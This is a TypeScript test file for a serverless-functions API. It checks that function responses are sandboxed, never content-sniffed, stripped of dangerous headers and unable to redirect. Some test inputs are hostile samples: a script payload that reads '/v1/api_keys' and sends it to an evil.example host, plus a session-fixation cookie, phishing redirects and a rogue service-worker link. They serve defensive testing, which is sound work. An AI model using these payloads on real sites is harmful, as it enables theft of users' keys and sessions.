/**
 * What a function's HTTP response may carry. It is served from the API's own
 * origin, where the dashboard's session cookie lives: no cookies, no
 * redirects, nothing a browser would run or obey there. Every answer is
 * sandboxed (Content-Security-Policy: sandbox) and never sniffed; headers
 * outside an allowlist are dropped, and the invocation's log says which.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { expectProblem } from "../helpers/expect-problem.ts";
import { useTestApp, type Tenant } from "../helpers/harness.ts";

const t = useTestApp();

/** Answers with the status, headers and body the request's JSON asks for. */
const MIRROR = `export default {
  async fetch(request) {
    const { status = 200, headers = {}, body = "" } = await request.json();
    return new Response(body, { status, headers });
  },
};`;

describe("function responses", () => {
  let tenant: Tenant;
  beforeAll(async () => {
    tenant = await t().tenant();
    const deployed = await tenant.client.post("/v1/functions", { name: "mirror", source: MIRROR, limits: { cpu_ms: 1000 } });
    expect(deployed.status, deployed.text).toBe(201);
  });

  const answer = (asked: { status?: number; headers?: Record<string, string>; body?: string }) => tenant.client.post("/v1/functions/mirror/invoke", asked);

  it("are sandboxed and never sniffed, whatever the function says", async () => {
    const res = await answer({
      headers: { "content-security-policy": "default-src *; script-src 'unsafe-inline'", "x-content-type-options": "sniff-away" },
      body: "{}",
    });
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get("content-security-policy")).toBe("sandbox");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("HTML is served inert: sandboxed, so no script runs and the page has no access to the API's origin", async () => {
    const html = "<!doctype html><script>fetch('/v1/api_keys').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>";
    const res = await answer({ headers: { "content-type": "text/html; charset=utf-8" }, body: html });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(res.headers.get("content-security-policy")).toBe("sandbox");
    expect(res.text).toBe(html);
  });

  it("cannot set cookies or other headers a browser obeys on the API's origin; the log names what was dropped", async () => {
    const denied = {
      "set-cookie": "enginery_session=attacker; Path=/",
      refresh: "0; url=https://evil.example/",
      "clear-site-data": '"cookies"',
      "www-authenticate": 'Basic realm="Sign in to Enginery"',
      "access-control-allow-credentials": "true",
      "strict-transport-security": "max-age=0",
      "alt-svc": 'h2="evil.example:443"',
      "service-worker-allowed": "/",
      "content-encoding": "gzip",
      "permissions-policy": "camera=*",
      "cross-origin-opener-policy": "unsafe-none",
      link: "<https://evil.example/sw.js>; rel=serviceworker",
    };
    const allowed = {
      "content-type": "application/json",
      "cache-control": "max-age=60",
      etag: '"v1"',
      "last-modified": "Tue, 24 Nov 2026 00:00:00 GMT",
      expires: "Tue, 24 Nov 2026 01:00:00 GMT",
      vary: "accept",
      "content-language": "en",
      "content-disposition": 'attachment; filename="report.json"',
      "access-control-allow-origin": "*",
      "access-control-allow-methods": "GET, POST",
      "access-control-allow-headers": "content-type",
      "access-control-expose-headers": "x-total",
      "access-control-max-age": "600",
      "x-total": "42",
    };
    const res = await answer({ status: 200, headers: { ...denied, ...allowed }, body: "{}" });
    expect(res.status, res.text).toBe(200);
    for (const name of Object.keys(denied)) expect(res.headers.get(name), name).toBeNull();
    // Fastify adds the charset to a JSON content type.
    for (const [name, value] of Object.entries(allowed))
      expect(res.headers.get(name), name).toBe(name === "content-type" ? "application/json; charset=utf-8" : value);

    const id = res.headers.get("x-function-invocation-id");
    const log = await tenant.client.get("/v1/functions/mirror/invocations?per_page=100");
    const invocation = log.body.data.find((i: any) => i.id === id);
    const warning = invocation.logs.find((l: any) => l.level === "warn");
    expect(warning?.message).toMatch(/dropped/);
    for (const name of Object.keys(denied)) expect(warning.message, name).toContain(name);
    for (const name of Object.keys(allowed)) expect(warning.message, name).not.toContain(`${name},`);
  });

  it("cannot redirect: a 3xx other than 304 is a failed invocation that says why", async () => {
    for (const status of [300, 301, 302, 303, 307, 308]) {
      const res = await answer({ status, headers: { location: "https://evil.example/phish" } });
      const problem = expectProblem(res, 500, "function_failed", String(status));
      expect(problem.detail, String(status)).toMatch(/may not redirect/);
      expect(res.headers.get("location"), String(status)).toBeNull();
    }
    // Not Modified is no redirect: conditional requests work.
    const unchanged = await answer({ status: 304, headers: { etag: '"v1"' } });
    expect(unchanged.status).toBe(304);
    expect(unchanged.headers.get("etag")).toBe('"v1"');
  });

  it("Location stays on a 201 Created (browsers do not follow it there)", async () => {
    const res = await answer({ status: 201, headers: { location: "/v1/functions/mirror/invoke/orders/1" }, body: "{}" });
    expect(res.status).toBe(201);
    expect(res.headers.get("location")).toBe("/v1/functions/mirror/invoke/orders/1");
  });
});
